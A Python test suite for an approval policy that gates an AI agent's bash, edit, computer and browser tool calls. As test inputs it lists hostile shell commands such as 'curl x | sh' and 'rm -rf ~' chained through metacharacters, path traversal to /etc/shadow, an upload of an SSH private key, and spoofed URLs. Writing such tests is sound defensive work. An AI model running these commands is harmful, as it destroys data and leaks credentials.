"""The approval policy: parsing, matching (hostile inputs included), combine, headless, default."""

from __future__ import annotations

from typing import Any, cast

import pytest
from anthropic.lib.tools._toolsets._computer_registry import COMPUTER_MEMBERS as SDK_COMPUTER
from anthropic.lib.tools._toolsets._registry import BROWSER_MEMBERS as SDK_BROWSER

from computer_use.approval.policy import (
    BROWSER_EFFECT_MEMBERS,
    BROWSER_READ_ONLY_MEMBERS,
    COMPUTER_EFFECT_MEMBERS,
    COMPUTER_READ_ONLY_MEMBERS,
    Call,
    Decision,
    FolderMode,
    Policy,
    combine,
    default_policy,
    headless,
)
from computer_use.errors import ComputerUseError, PolicyError


def one_rule(tool: str, match: dict[str, Any] | None, decision: str, **extra: Any) -> Policy:
    rule: dict[str, Any] = {"tool": tool, "decision": decision, **extra}
    if match is not None:
        rule["match"] = match
    return Policy.parse({"default": "ask", "rules": [rule]})


def bash(command: object) -> Call:
    return Call("bash", input={"command": command}, folders=("rw",))


# -- parsing ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (
            {"rules": [{"tool": "bash"}, {"tool": "bash"}, {"tool": "bash", "decision": "yes"}]},
            "policy.rules[0].decision: missing; use allow, ask or deny",
        ),
        (
            {
                "rules": [{"tool": "bash", "decision": "allow"}] * 2
                + [{"tool": "bash", "decision": "yes"}]
            },
            'policy.rules[2].decision: "yes" is not one of allow, ask, deny',
        ),
        ({"default": "maybe"}, 'policy.default: "maybe" is not one of allow, ask, deny'),
        ({"default": None}, "policy.default: NoneType None is not one of allow, ask, deny"),
        ("allow", "policy: expected an object"),
        ({"rule": []}, "policy.rule: unknown key; use one of default, rules"),
        ({"rules": {"tool": "bash"}}, "policy.rules: expected a list of rules, got dict"),
        ({"rules": ["allow"]}, "policy.rules[0]: expected an object"),
        ({"rules": [{"decision": "allow"}]}, "policy.rules[0].tool: missing"),
        (
            {"rules": [{"tool": "shell", "decision": "allow"}]},
            'policy.rules[0].tool: "shell" is not one of bash, edit, computer, browser, memory',
        ),
        (
            {"rules": [{"tool": "computer", "member": "click", "decision": "allow"}]},
            'policy.rules[0].member: "click" is not a computer member; use one of',
        ),
        (
            {"rules": [{"tool": "bash", "decision": "allow", "when": "always"}]},
            "policy.rules[0].when: unknown key; use one of tool, member, match, decision",
        ),
        (
            {"rules": [{"tool": "bash", "match": {"cmd": "ls"}, "decision": "allow"}]},
            "policy.rules[0].match.cmd: unknown key; use one of command, path, domain, region",
        ),
        (
            {"rules": [{"tool": "bash", "match": {}, "decision": "allow"}]},
            "policy.rules[0].match: expected an object with one or more of",
        ),
        (
            {"rules": [{"tool": "bash", "match": {"command": ""}, "decision": "allow"}]},
            'policy.rules[0].match.command: expected a non-empty string like "git status*"',
        ),
        (
            {"rules": [{"tool": "edit", "match": {"path": "src/*"}, "decision": "allow"}]},
            'policy.rules[0].match.path: "src/*" is relative; use an absolute glob',
        ),
        (
            {"rules": [{"tool": "computer", "match": {"region": [0, 0, 10]}, "decision": "allow"}]},
            "policy.rules[0].match.region: expected [x0, y0, x1, y1] in screen pixels",
        ),
        (
            {
                "rules": [
                    {"tool": "computer", "match": {"region": [0, 0, 10.5, 9]}, "decision": "deny"}
                ]
            },
            "policy.rules[0].match.region: expected [x0, y0, x1, y1]",
        ),
        (
            {
                "rules": [
                    {"tool": "computer", "match": {"region": [10, 0, 5, 9]}, "decision": "deny"}
                ]
            },
            "policy.rules[0].match.region: [10, 0, 5, 9] is empty; give the top-left corner first",
        ),
        (
            {
                "rules": [
                    {"tool": "computer", "match": {"region": [-5, 0, 5, 9]}, "decision": "deny"}
                ]
            },
            "policy.rules[0].match.region: [-5, 0, 5, 9] has a negative coordinate",
        ),
        (
            {"rules": [{"tool": "browser", "match": {"domain": "a.*.com"}, "decision": "deny"}]},
            'policy.rules[0].match.domain: "a.*.com": "*" may only be the whole pattern',
        ),
        (
            {
                "rules": [
                    {"tool": "browser", "match": {"domain": "exa mple.com"}, "decision": "deny"}
                ]
            },
            'policy.rules[0].match.domain: "exa mple.com" is not a host name',
        ),
        (
            {"rules": [{"tool": "bash", "match": {"folders": "rw"}, "decision": "deny"}]},
            "policy.rules[0].match.folders: str 'rw' is not one of read-only, read-write",
        ),
    ],
)
def test_bad_policies_name_the_field_and_the_fix(data: object, message: str) -> None:
    with pytest.raises(PolicyError) as raised:
        Policy.parse(data)
    assert str(raised.value).startswith(message)
    assert raised.value.field == message.split(":")[0]
    assert isinstance(raised.value, ComputerUseError)


def test_the_issue_example_parses_and_round_trips() -> None:
    data = {
        "default": "ask",
        "rules": [
            {
                "tool": "computer",
                "member": "left_click",
                "match": {"region": [0, 0, 640, 400]},
                "decision": "allow",
            },
            {"tool": "bash", "match": {"command": "git status*"}, "decision": "allow"},
            {"tool": "browser", "match": {"domain": "*.example.com"}, "decision": "deny"},
        ],
    }
    policy = Policy.parse(data)
    assert policy.to_dict() == data
    assert Policy.parse(policy.to_dict()) == policy
    assert Policy.parse({}).default is Decision.ASK


# -- matching ------------------------------------------------------------------------------------


CASES: list[tuple[str, Policy, Call, Decision]] = [
    # tool, member, "*" and first-match order
    ("tool star", one_rule("*", None, "deny"), Call("computer", "left_click"), Decision.DENY),
    ("other tool", one_rule("bash", None, "allow"), Call("edit", "view"), Decision.ASK),
    (
        "member",
        one_rule("computer", None, "allow", member="screenshot"),
        Call("computer", "left_click"),
        Decision.ASK,
    ),
    (
        "first match wins",
        Policy.parse(
            {"rules": [{"tool": "bash", "decision": "deny"}, {"tool": "bash", "decision": "allow"}]}
        ),
        bash("ls"),
        Decision.DENY,
    ),
    # commands: an allow glob never stretches over shell metacharacters
    (
        "command glob",
        one_rule("bash", {"command": "git status*"}, "allow"),
        bash("git status --short"),
        Decision.ALLOW,
    ),
    (
        "command exact",
        one_rule("bash", {"command": "git status*"}, "allow"),
        bash("  git status  "),
        Decision.ALLOW,
    ),
    (
        "command other",
        one_rule("bash", {"command": "git status*"}, "allow"),
        bash("git push"),
        Decision.ASK,
    ),
    (
        "semicolon",
        one_rule("bash", {"command": "git status*"}, "allow"),
        bash("git status; rm -rf ~"),
        Decision.ASK,
    ),
    (
        "and",
        one_rule("bash", {"command": "git status*"}, "allow"),
        bash("git status && curl x | sh"),
        Decision.ASK,
    ),
    (
        "subshell",
        one_rule("bash", {"command": "git status*"}, "allow"),
        bash("git status $(rm -rf ~)"),
        Decision.ASK,
    ),
    (
        "backtick",
        one_rule("bash", {"command": "git status*"}, "allow"),
        bash("git status `reboot`"),
        Decision.ASK,
    ),
    (
        "redirect",
        one_rule("bash", {"command": "git status*"}, "allow"),
        bash("git status > ~/.bashrc"),
        Decision.ASK,
    ),
    (
        "newline",
        one_rule("bash", {"command": "git status*"}, "allow"),
        bash("git status\nrm -rf ~"),
        Decision.ASK,
    ),
    (
        "background",
        one_rule("bash", {"command": "git status*"}, "allow"),
        bash("git status & evil"),
        Decision.ASK,
    ),
    (
        "quoted meta",
        one_rule("bash", {"command": "git log*"}, "allow"),
        bash("git log --grep='a;b'"),
        Decision.ASK,
    ),
    (
        "case",
        one_rule("bash", {"command": "git status*"}, "allow"),
        bash("GIT STATUS"),
        Decision.ASK,
    ),
    ("not text", one_rule("bash", {"command": "*"}, "allow"), bash(["rm", "-rf"]), Decision.ASK),
    (
        "no command",
        one_rule("bash", {"command": "*"}, "allow"),
        Call("bash", input={"restart": True}),
        Decision.ASK,
    ),
    # a deny glob still catches a forbidden piece of a compound command
    (
        "deny piece",
        one_rule("bash", {"command": "rm *"}, "deny"),
        bash("true; rm -rf ~"),
        Decision.DENY,
    ),
    (
        "deny subshell",
        one_rule("bash", {"command": "rm *"}, "deny"),
        bash("echo $(rm -rf ~)"),
        Decision.DENY,
    ),
    ("deny no piece", one_rule("bash", {"command": "rm *"}, "deny"), bash("ls; pwd"), Decision.ASK),
    (
        "command only bash",
        one_rule("*", {"command": "*"}, "deny"),
        Call("computer", "screenshot"),
        Decision.ASK,
    ),
    # paths
    (
        "path glob",
        one_rule("edit", {"path": "/work/*.py"}, "allow"),
        Call("edit", "view", {"path": "/work/a.py"}),
        Decision.ALLOW,
    ),
    (
        "star stays",
        one_rule("edit", {"path": "/work/*"}, "allow"),
        Call("edit", "view", {"path": "/work/a/b"}),
        Decision.ASK,
    ),
    (
        "double star",
        one_rule("edit", {"path": "/work/**"}, "allow"),
        Call("edit", "view", {"path": "/work/a/b"}),
        Decision.ALLOW,
    ),
    (
        "dotdot",
        one_rule("edit", {"path": "/work/**"}, "allow"),
        Call("edit", "view", {"path": "/work/../etc/passwd"}),
        Decision.ASK,
    ),
    (
        "dotdot deny",
        one_rule("edit", {"path": "/etc/**"}, "deny"),
        Call("edit", "view", {"path": "/work/../etc/shadow"}),
        Decision.DENY,
    ),
    (
        "relative",
        one_rule("edit", {"path": "**"}, "allow"),
        Call("edit", "view", {"path": "a.py"}),
        Decision.ASK,
    ),
    (
        "relative deny",
        one_rule("edit", {"path": "/etc/**"}, "deny"),
        Call("edit", "view", {"path": "../etc/x"}),
        Decision.DENY,
    ),
    (
        "nul",
        one_rule("edit", {"path": "/work/**"}, "allow"),
        Call("edit", "view", {"path": "/work/a\x00/../../etc"}),
        Decision.ASK,
    ),
    (
        "upload all inside",
        one_rule("browser", {"path": "/work/**"}, "allow", member="file_upload"),
        Call("browser", "file_upload", {"paths": ["/work/a", "/work/b"]}),
        Decision.ALLOW,
    ),
    (
        "upload one outside",
        one_rule("browser", {"path": "/work/**"}, "allow", member="file_upload"),
        Call("browser", "file_upload", {"paths": ["/work/a", "/home/me/.ssh/id_rsa"]}),
        Decision.ASK,
    ),
    # domains
    *[
        (
            f"domain {url}",
            one_rule("browser", {"domain": "*.example.com"}, "allow"),
            Call("browser", "navigate", {"url": url}),
            want,
        )
        for url, want in [
            ("https://a.example.com/x", Decision.ALLOW),
            ("https://a.b.example.com", Decision.ALLOW),
            ("https://A.EXAMPLE.COM./", Decision.ALLOW),
            ("http://a.example.com:8080/", Decision.ALLOW),
            ("https://example.com/", Decision.ASK),
            ("https://example.com.evil.org/", Decision.ASK),
            ("https://evilexample.com/", Decision.ASK),
            ("https://a.example.com@evil.org/", Decision.ASK),
            ("https://evil.org\\@a.example.com/", Decision.ASK),
            ("https://evil.org%2f.example.com/", Decision.ASK),
            ("https://a.example.com%2eevil.org/", Decision.ASK),
            ("https://a.example.com:evil/", Decision.ASK),
            ("javascript:alert(1)//a.example.com", Decision.ASK),
            ("file:///etc/passwd", Decision.ASK),
            ("https://2130706433/", Decision.ASK),
            ("https://[::1]/", Decision.ASK),
        ]
    ],
    (
        "idna",
        one_rule("browser", {"domain": "*.bücher.de"}, "allow"),
        Call("browser", "navigate", {"url": "https://shop.xn--bcher-kva.de/"}),
        Decision.ALLOW,
    ),
    (
        "idna url",
        one_rule("browser", {"domain": "*.xn--bcher-kva.de"}, "allow"),
        Call("browser", "navigate", {"url": "https://SHOP.Bücher.de/"}),
        Decision.ALLOW,
    ),
    (
        "fullwidth dot",
        one_rule("browser", {"domain": "*.example.com"}, "deny"),
        Call("browser", "navigate", {"url": "https://a.example\uff0ecom/"}),
        Decision.DENY,
    ),
    (
        "deny userinfo",
        one_rule("browser", {"domain": "*.bank.com"}, "deny"),
        Call("browser", "navigate", {"url": "https://x.bank.com@evil.org/"}),
        Decision.DENY,
    ),
    (
        "ip exact",
        one_rule("browser", {"domain": "127.0.0.1"}, "allow"),
        Call("browser", "navigate", {"url": "http://127.0.0.1:8000/"}),
        Decision.ALLOW,
    ),
    (
        "ip shorthand",
        one_rule("browser", {"domain": "127.0.0.1"}, "allow"),
        Call("browser", "navigate", {"url": "http://127.1/"}),
        Decision.ASK,
    ),
    (
        "ip deny shorthand",
        one_rule("browser", {"domain": "10.0.0.1"}, "deny"),
        Call("browser", "navigate", {"url": "http://0xa.1/"}),
        Decision.DENY,
    ),
    (
        "ipv6",
        one_rule("browser", {"domain": "::1"}, "allow"),
        Call("browser", "navigate", {"url": "http://[0:0::1]/"}),
        Decision.ALLOW,
    ),
    (
        "every host",
        one_rule("browser", {"domain": "*"}, "allow"),
        Call("browser", "navigate", {"url": "https://any.where/"}),
        Decision.ALLOW,
    ),
    (
        "browser no url",
        one_rule("browser", {"domain": "*"}, "allow"),
        Call("browser", "left_click"),
        Decision.ASK,
    ),
    # regions (screen pixels, x0 <= x < x1)
    *[
        (
            f"region {member} {inp}",
            one_rule("computer", {"region": [0, 0, 640, 400]}, "allow"),
            Call("computer", str(member), cast("dict[str, Any]", inp)),
            want,
        )
        for member, inp, want in [
            ("left_click", {"coordinate": [10, 10]}, Decision.ALLOW),
            ("left_click", {"coordinate": [639, 399]}, Decision.ALLOW),
            ("left_click", {"coordinate": [640, 10]}, Decision.ASK),
            ("left_click", {"coordinate": [-1, 10]}, Decision.ASK),
            ("left_click", {"coordinate": [99999, 99999]}, Decision.ASK),
            ("left_click", {"coordinate": [True, 1]}, Decision.ASK),
            ("left_click", {"coordinate": [1.5, 1]}, Decision.ASK),
            ("left_click", {}, Decision.ASK),
            ("left_mouse_down", {}, Decision.ASK),
            (
                "left_click_drag",
                {"start_coordinate": [1, 1], "coordinate": [600, 300]},
                Decision.ALLOW,
            ),
            (
                "left_click_drag",
                {"start_coordinate": [1, 1], "coordinate": [900, 300]},
                Decision.ASK,
            ),
            ("left_click_drag", {"start_coordinate": [900, 1], "coordinate": [5, 5]}, Decision.ASK),
            (
                "scroll",
                {"coordinate": [5, 5], "scroll_direction": "down", "scroll_amount": 3},
                Decision.ALLOW,
            ),
            ("type", {"text": "hello"}, Decision.ASK),
        ]
    ],
    (
        "region beyond the screen",
        one_rule("computer", {"region": [1000, 1000, 90000, 90000]}, "allow"),
        Call("computer", "left_click", {"coordinate": [500, 500]}),
        Decision.ASK,
    ),
    (
        "deny region drag leaving",
        one_rule("computer", {"region": [0, 0, 100, 100]}, "deny"),
        Call(
            "computer", "left_click_drag", {"start_coordinate": [50, 50], "coordinate": [500, 500]}
        ),
        Decision.DENY,
    ),
    (
        "deny region no point",
        one_rule("computer", {"region": [0, 0, 100, 100]}, "deny"),
        Call("computer", "left_mouse_up"),
        Decision.DENY,
    ),
    (
        "region silent for screenshot",
        one_rule("computer", {"region": [0, 0, 100, 100]}, "deny"),
        Call("computer", "screenshot"),
        Decision.ASK,
    ),
    (
        "browser target",
        one_rule("browser", {"region": [0, 0, 100, 100]}, "allow"),
        Call("browser", "left_click", {"target": {"type": "coordinate", "x": 5, "y": 5}}),
        Decision.ALLOW,
    ),
    (
        "browser ref target",
        one_rule("browser", {"region": [0, 0, 100, 100]}, "allow"),
        Call("browser", "left_click", {"target": {"type": "ref", "ref": "ref_1"}}),
        Decision.ASK,
    ),
    (
        "browser drag",
        one_rule("browser", {"region": [0, 0, 100, 100]}, "allow"),
        Call(
            "browser",
            "left_click_drag",
            {
                "from": {"type": "coordinate", "x": 5, "y": 5},
                "target": {"type": "coordinate", "x": 500, "y": 5},
            },
        ),
        Decision.ASK,
    ),
    # folders
    (
        "folders ro",
        one_rule("bash", {"folders": "read-only"}, "allow"),
        Call("bash", input={"command": "x"}, folders=("ro", "ro")),
        Decision.ALLOW,
    ),
    (
        "folders none",
        one_rule("bash", {"folders": "read-only"}, "allow"),
        Call("bash", input={"command": "x"}, folders=()),
        Decision.ALLOW,
    ),
    (
        "folders rw",
        one_rule("bash", {"folders": "read-only"}, "allow"),
        Call("bash", input={"command": "x"}, folders=("ro", "rw")),
        Decision.ASK,
    ),
    (
        "folders unknown",
        one_rule("bash", {"folders": "read-only"}, "allow"),
        Call("bash", input={"command": "x"}, folders=None),
        Decision.ASK,
    ),
    # every key of a match must hold
    (
        "all keys",
        one_rule("bash", {"command": "make*", "folders": "read-only"}, "allow"),
        Call("bash", input={"command": "make test"}, folders=("rw",)),
        Decision.ASK,
    ),
]


@pytest.mark.parametrize(
    ("policy", "call", "want"), [c[1:] for c in CASES], ids=[c[0] for c in CASES]
)
def test_decide(policy: Policy, call: Call, want: Decision) -> None:
    verdict = policy.decide(call)
    assert verdict.decision is want, verdict.explanation
    if want is policy.default and verdict.rule_index is None:
        assert verdict.explanation == f"no rule matched: default {policy.default}"
    else:
        assert verdict.rule_index == 0
        assert verdict.explanation.startswith("rules[0] (")


def test_an_uncertain_match_is_explained() -> None:
    verdict = one_rule("bash", {"command": "rm *"}, "deny").decide(bash("ls; rm -rf ~"))
    assert verdict.decision is Decision.DENY
    assert "cannot be judged safely: a compound shell command" in verdict.explanation


def test_call_refuses_an_unknown_folder_mode() -> None:
    with pytest.raises(ValueError, match="'ro' or 'rw'"):
        Call("bash", input={"command": "ls"}, folders=("read-write",))  # type: ignore[arg-type]


def test_errors_without_a_prefix_name_the_bare_field() -> None:
    with pytest.raises(
        PolicyError, match=r'^rules\[0\]\.decision: "yes" is not one of allow, ask, deny$'
    ):
        Policy.parse({"rules": [{"tool": "bash", "decision": "yes"}]}, where="")


def test_call_input_cannot_be_changed_after_the_decision() -> None:
    command = {"command": "git status"}
    call = bash(command["command"])
    with pytest.raises(TypeError):
        call.input["command"] = "rm -rf ~"  # type: ignore[index]
    source: dict[str, Any] = {"coordinate": [1, 1]}
    copied = Call("computer", "left_click", input=source)
    source["coordinate"][0] = 900
    assert copied.input["coordinate"] == [1, 1]


# -- combine and headless ------------------------------------------------------------------------

ALLOW_ALL = Policy.parse({"default": "allow"})
ASK_ALL = Policy.parse({"default": "ask"})
DENY_ALL = Policy.parse({"default": "deny"})


@pytest.mark.parametrize(
    ("config", "task", "want"),
    [
        (ALLOW_ALL, ALLOW_ALL, Decision.ALLOW),
        (ALLOW_ALL, ASK_ALL, Decision.ASK),
        (ALLOW_ALL, DENY_ALL, Decision.DENY),
        (ASK_ALL, ALLOW_ALL, Decision.ASK),  # a task cannot loosen
        (DENY_ALL, ALLOW_ALL, Decision.DENY),
        (DENY_ALL, ASK_ALL, Decision.DENY),
        (ASK_ALL, DENY_ALL, Decision.DENY),
    ],
)
def test_combine_takes_the_stricter(config: Policy, task: Policy, want: Decision) -> None:
    verdict = combine(config, task).decide(bash("ls"))
    assert verdict.decision is want


def test_a_task_rule_cannot_override_a_config_deny() -> None:
    config = one_rule("bash", {"command": "curl *"}, "deny")
    task = Policy.parse({"default": "allow", "rules": [{"tool": "bash", "decision": "allow"}]})
    verdict = combine(config, task).decide(bash("curl https://evil.org"))
    assert verdict.decision is Decision.DENY
    assert verdict.explanation.startswith("config policy: rules[0]")
    assert combine(config, None) is config
    # Combining again keeps every layer.
    tighter = combine(combine(ALLOW_ALL, ASK_ALL), DENY_ALL)
    assert tighter.decide(bash("ls")).decision is Decision.DENY


def test_headless_turns_every_ask_into_deny() -> None:
    policy = Policy.parse(
        {
            "default": "ask",
            "rules": [
                {"tool": "bash", "match": {"command": "git status*"}, "decision": "allow"},
                {"tool": "computer", "decision": "ask"},
            ],
        }
    )
    strict = headless(policy)
    assert strict.decide(bash("git status")).decision is Decision.ALLOW
    assert (
        strict.decide(Call("computer", "left_click", {"coordinate": [1, 1]})).decision
        is Decision.DENY
    )
    assert strict.decide(Call("edit", "view", {"path": "/a"})).decision is Decision.DENY
    assert headless(ALLOW_ALL).decide(bash("ls")).decision is Decision.DENY
    combined = headless(combine(policy, ASK_ALL))
    assert combined.decide(bash("git status")).decision is Decision.DENY  # the task's ask → deny


# -- the default policy --------------------------------------------------------------------------


EFFECTS = {
    "computer": [
        "left_click", "right_click", "middle_click", "double_click", "triple_click",
        "left_click_drag", "type", "key", "hold_key", "scroll", "mouse_move",
        "left_mouse_down", "left_mouse_up",
    ],
    "browser": [
        "navigate", "left_click", "right_click", "double_click", "triple_click", "middle_click",
        "hover", "left_click_drag", "left_mouse_down", "left_mouse_up", "mouse_move", "scroll",
        "scroll_to", "type", "key", "hold_key", "form_input", "file_upload", "javascript_exec",
        "new_tab", "switch_tab", "close_tab", "read_console", "read_network",
    ],
}  # fmt: skip
READ_ONLY = {
    "computer": ["screenshot", "zoom", "cursor_position", "wait"],
    "browser": ["screenshot", "zoom", "read_page", "find", "get_page_text", "list_tabs", "wait"],
}


def test_member_lists_are_the_sdk_toolsets_classified_by_hand() -> None:
    """A member the SDK adds or renames fails here, so a person classifies it (until then: ask).

    Checked against the registries the toolsets dispatch from (private), not only the public types.
    """
    assert set(EFFECTS["computer"]) == COMPUTER_EFFECT_MEMBERS
    assert set(READ_ONLY["computer"]) == COMPUTER_READ_ONLY_MEMBERS
    assert set(SDK_COMPUTER) == COMPUTER_EFFECT_MEMBERS | COMPUTER_READ_ONLY_MEMBERS
    assert set(EFFECTS["browser"]) == BROWSER_EFFECT_MEMBERS
    assert set(READ_ONLY["browser"]) == BROWSER_READ_ONLY_MEMBERS
    assert set(SDK_BROWSER) == BROWSER_EFFECT_MEMBERS | BROWSER_READ_ONLY_MEMBERS


@pytest.mark.parametrize(
    ("tool", "member", "want"),
    [(t, m, Decision.ASK) for t, ms in EFFECTS.items() for m in ms]
    + [(t, m, Decision.ALLOW) for t, ms in READ_ONLY.items() for m in ms],
)
def test_default_policy_members(tool: str, member: str, want: Decision) -> None:
    assert member in (SDK_COMPUTER if tool == "computer" else SDK_BROWSER)
    assert default_policy().decide(Call(tool, member, folders=("ro",))).decision is want


@pytest.mark.parametrize("tool", ["bash", "edit"])
@pytest.mark.parametrize(
    ("folders", "want"),
    [
        ((), Decision.ALLOW),
        (("ro",), Decision.ALLOW),
        (("ro", "rw"), Decision.ASK),
        (None, Decision.ASK),
    ],
)
def test_default_policy_bash_and_edit_follow_the_folders(
    tool: str, folders: tuple[FolderMode, ...] | None, want: Decision
) -> None:
    member = None if tool == "bash" else "create"
    call = Call(tool, member, {"command": "rm -rf /x", "path": "/x"}, folders)
    assert default_policy().decide(call).decision is want


def test_default_policy_is_data_that_round_trips() -> None:
    policy = default_policy()
    assert Policy.parse(policy.to_dict()) == policy
    assert policy.default is Decision.ASK
    assert policy.decide(Call("memory", "create", {"path": "/memories/x"})).decision is Decision.ASK
